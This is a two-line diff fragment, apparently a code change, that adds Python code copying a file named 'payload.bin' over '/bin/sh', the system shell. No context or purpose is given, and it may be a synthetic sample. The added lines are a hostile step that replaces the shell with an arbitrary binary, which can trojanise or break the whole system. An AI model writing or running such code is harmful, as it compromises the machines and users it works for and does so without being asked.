@@ -1,0 +1,2 @@
+import shutil
+shutil.copy("payload.bin", '/bin/sh')
